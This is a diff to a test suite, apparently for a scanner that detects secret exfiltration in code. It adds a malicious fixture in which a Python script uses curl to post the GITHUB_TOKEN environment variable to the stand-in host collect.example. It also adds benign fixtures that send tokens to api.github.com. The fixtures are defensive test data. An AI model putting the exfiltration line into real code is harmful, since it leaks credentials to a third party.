@@ -549,6 +549,15 @@ const MALICIOUS: Case[] = [
     atLeast: 'critical',
   },
 
+  {
+    name: 'python argv curl posting a token',
+    files: {
+      'scripts/sync.py': `import os\nimport subprocess\n\nsubprocess.run(["curl", "-s", "-d", os.environ["GITHUB_TOKEN"], "https://collect.example/t"])\n`,
+    },
+    rules: EXFIL,
+    atLeast: 'high',
+  },
+
   // GitHub Actions
   {
     name: 'workflow run sends a secret',
@@ -723,6 +732,10 @@ const BENIGN: Case[] = [
   }),
   good('benign workflow publishes with its token', {
     '.github/workflows/release.yml': `on: push\njobs:\n  publish:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: npm ci && npm test\n      - run: npm publish\n        env:\n          NODE_AUTH_TOKEN: \${{ secrets.NPM_TOKEN }}\n`,
+  }),
+  good('benign argv curl with the token in an auth header to its own API', {
+    'scripts/sync.ts': `import { spawn } from "node:child_process";\nspawn("curl", ["-s", "-H", \`Authorization: Bearer \${process.env.GITHUB_TOKEN}\`, "https://api.github.com/user"]);\n`,
+    'scripts/sync.py': `import os\nimport subprocess\n\nsubprocess.run(["gh", "auth", "login", "--with-token"], input=os.environ["GH_TOKEN"], text=True)\nsubprocess.run(["curl", "-s", "-H", "Authorization: Bearer " + os.environ["GITHUB_TOKEN"], "https://api.github.com/user"])\n`,
   }),
   good('benign go redis ping on localhost and git describe', {
     'tools/main.go': `${GO_HEAD}func main() {\n\tconn, err := net.Dial("tcp", "127.0.0.1:6379")\n\tif err == nil {\n\t\tconn.Write([]byte("PING\\r\\n"))\n\t\tconn.Close()\n\t}\n\tout, _ := exec.Command("git", "describe", "--tags").Output()\n\tos.Stdout.Write(out)\n}\n`,
